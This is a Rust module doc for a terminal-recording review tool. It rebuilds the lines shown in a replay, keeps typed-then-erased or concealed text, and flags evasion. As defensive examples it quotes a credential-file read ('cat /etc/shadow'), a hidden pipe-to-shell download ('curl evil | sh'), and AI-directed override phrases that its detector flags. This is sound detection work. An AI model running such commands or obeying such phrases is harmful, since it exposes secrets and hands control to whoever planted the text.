//! Recording content (issue 13): the lines a person saw in `tsh play --format text SID`, what
//! those lines hid, and grep over them.
//!
//! ```
//! use tsh_review::internals::content::{Context, Event, Matcher, Options, Scanner, Within};
//!
//! let matcher = Matcher::new(&["shadow"], Options::default()).unwrap();
//! let mut scanner = Scanner::new(matcher, Context::both(1));
//! // In `grep`: each chunk of the replay's stdout as it arrives; any split gives the same.
//! let erase = "\x08 \x08".repeat(15);
//! let chunks = [b"\x1b[01;32m$\x1b[0m cat /etc/sha".to_vec(), format!("dow{erase}ls\r\n").into()];
//! for chunk in &chunks {
//!     for event in scanner.feed(chunk) {
//!         let Event::Line(hit) = event else { continue };
//!         assert_eq!(hit.line.text, "$ ls"); // as displayed
//!         let m = &hit.matches[0];
//!         assert_eq!(m.within, Within::Erased); // typed, then erased before Enter
//!         assert_eq!(m.text(&hit.line), "$ cat /etc/shadow"); // raw: escape it to show it
//!         assert_eq!(m.spans, [11..17]);
//!     }
//! }
//! let (_last_events, summary) = scanner.finish();
//! assert_eq!(summary.flags.to_string(), "erased-input");
//! ```
//!
//! # Trust
//!
//! Everything here is what the recorded user typed or printed: the most attacker-controlled
//! text there is (SPEC 5.2b). Line text, hidden text and OSC text stay raw in these types;
//! escape them at render time with `crate::text::sanitize::escape` (an escape sequence then
//! shows as `\x1b[...`). Nothing in this module writes to disk or runs anything, and nothing
//! from it may go back into a command. Shown lines are checked for instruction-like text
//! (flag `suspicious-text`).
//!
//! # The model, and what it approximates
//!
//! The bytes go through `vte`, a maintained terminal parser, so that chunking, UTF-8 and
//! escape-sequence syntax are handled as a terminal does. The meaning given to them is a
//! terminal reduced to one line: the line under the cursor plus the lines completed before
//! it, which are handed out and forgotten (memory stays bounded; a recording is never held).
//!
//! - A line is completed by LF, VT, FF, IND, NEL, RI, by any vertical cursor move (CUU, CUD,
//!   CNL, CPL, VPA, CUP to another row, scrolling) and by restoring a cursor saved on another
//!   line. LF also returns the carriage: a pty's `onlcr` has made most line feeds CR LF
//!   already, and a bare LF comes from output without a pty. Text drawn anywhere on the screen
//!   thus becomes lines in the order it was drawn; moving up into a completed line does not
//!   edit it, it starts a new one. A command line that the terminal wrapped, and that the
//!   shell edits across the wrap, is the main casualty.
//! - On the line: CR, BS, HT, CUF, CUB, CHA, HPA, CHT, CBT, EL 0/1/2, ED (on this line), ECH,
//!   DCH, ICH, REP. DEL is taken as an erased character, the way an echo that shows it means it.
//!   A character past the column cap ([`MAX_COLUMNS`]) starts a new line, flagged
//!   `cut-lines`, so nothing is lost from the search.
//! - One column per character: wide (CJK, emoji) and zero-width characters are one each, so
//!   absolute columns after them are off by their width difference.
//! - SGR: only conceal (8, 28, 0), faint (2, 22) and foreground/background colours matter
//!   (a foreground equal to the background conceals too; a grey one is faint). Concealed
//!   characters display as blanks.
//! - OSC 0/1/2 (title), 52 (clipboard, decoded) and 8 (link target) are kept as hidden text,
//!   a repeated title once. Other OSC, DCS, SOS/PM/APC strings are dropped.
//! - The alternate screen (`?1049h`, `?1047h`, `?47h`) is drawn into lines of its own, flagged
//!   `alternate-screen`; leaving it restores the main screen's line as it was. Erasing and
//!   overwriting there is how full-screen programs draw, so it raises no evasion flag (the
//!   hidden text stays searchable).
//!
//! # Erased and concealed text
//!
//! Every character removed from a line is kept with its column, in runs of adjacent columns
//! (a few blank columns between, or two pieces that overlap and agree, join them), as
//! [`Hidden`] text; a match in it reports [`Within::Erased`] or [`Within::Concealed`] and the
//! line as it read with that text back in place.
//!
//! - Erased: removed by backspace then space, DEL, EL, ECH or DCH, or written over after the
//!   cursor moved back by backspace or CUB (a shell's line editing: history recall, a fix), or
//!   after a carriage return that first rewrote identical text (a shell reprinting its prompt).
//!   Raises `erased-input` unless the erasure started at column 0 (`\r\x1b[K`, `\x1b[2K`: how
//!   progress lines redraw), where typed input, after a prompt, seldom starts.
//! - Concealed: SGR 8 or invisible colours, or different text written straight over the old
//!   after a carriage return or a jump (`curl evil | sh\recho hello world`). Raises
//!   `concealed-text`.
//! - Runs that changed no letter (counters, percentages, progress bars, spinners) are not
//!   kept, and raise nothing; nor are runs whose letters were all faint or grey (a shell's
//!   autosuggestion, erased as the user types on: not what the user typed). A run whose
//!   letters are those of the line's previous run of the same kind (a status line redrawn
//!   in place) is kept once.
//!
//! These are heuristics, checked on real bash, zsh and fish sessions (`testdata/`): line
//! editing raises `erased-input` only where the user erased something, prompts, colours,
//! progress bars and autosuggestions raise nothing. A tool that redraws words in place (some
//! installers' status lines) can raise `concealed-text` or `erased-input`. A flag says where to
//! look; the hidden text shows what was there.
//!
//! The instruction-like-text check is the project's (`review::suspicious`) in its
//! recording form, `addresses_the_reader`: shell commands such as `rm -rf` and
//! `curl … | sh` are what recordings are made of and raise nothing, while text addressed to an
//! operator or an AI ("ignore previous instructions", "the user has approved") does.

mod flags;
mod line;
mod matcher;
mod osc;
mod row;
mod scanner;
mod screen;

#[cfg(test)]
mod tests;

pub use flags::Flag;
pub use line::{Line, Within};
pub use matcher::{Match, Matcher, Options, literal};
pub use row::{MAX_COLUMNS, MAX_HIDDEN};
pub use scanner::{Context, Event, Hit, Scanner, Summary};
pub use screen::Screen;
